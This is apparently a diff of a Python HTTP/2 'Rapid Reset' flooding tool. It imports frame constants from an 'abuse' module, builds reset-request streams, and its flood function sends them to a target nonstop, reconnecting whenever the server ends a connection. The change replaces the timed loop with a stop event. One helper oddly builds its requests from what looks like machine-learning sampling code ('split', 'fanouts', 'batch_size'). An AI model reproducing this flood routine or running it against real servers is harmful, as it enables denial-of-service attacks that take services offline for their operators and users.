@@ -7,7 +7,6 @@ import pathlib
 import select
 import struct
 import sys
-import time
 
 sys.path.append(str(pathlib.Path(__file__).resolve().parents[1] / "abuse"))
 from http2 import (CANCEL, DATA, END_HEADERS, END_STREAM, HEADERS,  # noqa: E402
@@ -84,12 +83,12 @@ def rapid_reset_requests():
     return _resets(sample(job(split="train", fanouts=[10, 5], batch_size=256)))
 
 
-def flood(frames, target, source, tls, seconds):
-    """Sends what `frames` makes for so long, on a new connection whenever the
-    other side ends one. Returns bytes sent and the number of connections."""
-    end = time.monotonic() + seconds
+def flood(frames, target, source, tls, stop):
+    """Sends what `frames` makes until the event `stop`, on a new connection
+    whenever the other side ends one. Returns bytes sent and the number of
+    connections."""
     sent = connections = 0
-    while time.monotonic() < end:
+    while not stop.is_set():
         with contextlib.suppress(OSError), Connection(
                 target, source, patience=2.0, tls=tls) as connection:
             connections += 1
@@ -97,7 +96,7 @@ def flood(frames, target, source, tls, seconds):
                 connection.send(piece)
                 sent += len(piece)
                 _discard(connection.socket)
-                if time.monotonic() > end:
+                if stop.is_set():
                     break
     return sent, connections
 
